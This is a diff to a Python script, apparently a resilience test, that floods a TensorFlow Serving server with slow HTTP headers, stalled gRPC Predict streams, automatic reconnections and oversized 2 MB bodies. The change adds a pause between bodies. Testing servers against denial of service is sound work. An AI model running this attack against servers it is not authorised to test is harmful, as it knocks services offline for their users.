@@ -3,8 +3,8 @@
 Half of the connections send the headers of an HTTP request, one byte a second.
 The other half are gRPC streams of Predict that never send their message.
 Whenever the server closes a connection, the attacker opens it again. One more
-client sends bodies of 2 MB with too many rows, one after the other. Stop the
-attack with Ctrl-C or SIGTERM; the last line counts what was sent.
+client sends bodies of 2 MB with too many rows, ten a second. Stop the attack
+with Ctrl-C or SIGTERM; the last line counts what was sent.
 """
 
 import argparse
@@ -28,6 +28,10 @@ _PREDICT = "/tensorflow.serving.PredictionService/Predict"
 
 # Two million bytes: a million rows.
 _BODY = b'{"instances":[' + b"0," * 999_990 + b"0]}"
+
+# Seconds between two bodies. Without a pause, an attacker on the same machine
+# would take a core, whatever the server does.
+_PAUSE_SECS = 0.1
 
 
 class Attack:
@@ -93,6 +97,7 @@ class Attack:
                 line = (await reader.read()).split(b"\r\n")[0].decode()
                 self.counts[f"2 MB body, {line or 'no answer'}"] += 1
                 writer.close()
+            await asyncio.sleep(_PAUSE_SECS)
 
     async def _connect(self):
         return await asyncio.open_connection(self._host, self._port)
